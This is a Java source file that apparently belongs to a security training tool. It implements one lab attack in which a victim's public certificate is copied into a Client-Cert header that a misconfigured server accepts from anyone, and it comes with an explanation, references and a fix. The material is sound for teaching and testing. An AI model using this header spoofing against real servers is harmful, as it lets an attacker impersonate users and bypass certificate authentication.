package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Claims the victim's certificate in a header, as a proxy would. */
@AutoService(Attack.class)
public final class MtlsHeader implements Attack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "mtls-header",
        "A certificate in a header",
        AttackGroup.PROOF_OF_POSSESSION,
        "The attacker copies Alice's certificate into the header in which a proxy would pass it on.",
        "Alice's certificate. It is no secret: she shows it to every server that asks.",
        "The server was set up for a proxy in front of it, and takes the header from anybody.",
        "trust-cert-header",
        List.of("RFC 9440 §4", "OWASP API8:2023"),
        "Take the header from known proxies only, and let these remove it from what they pass on.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String certificate =
        target.makes(
            "Look at Alice's certificate when she shows it.",
            "certificate",
            BoundToken.file(target, Loot.VICTIM, "certificate"));
    String base64 = certificate.replaceAll("-----[A-Z ]+-----|\\s", "");
    Hop answer =
        target.send(
            "Write it into the header Client-Cert. Her key is not needed for that.",
            target.get(Events.VICTIMS).withHeader("Client-Cert", ":" + base64 + ":"));
    return target.end(Events.areIn(answer), Events.GAIN);
  }
}
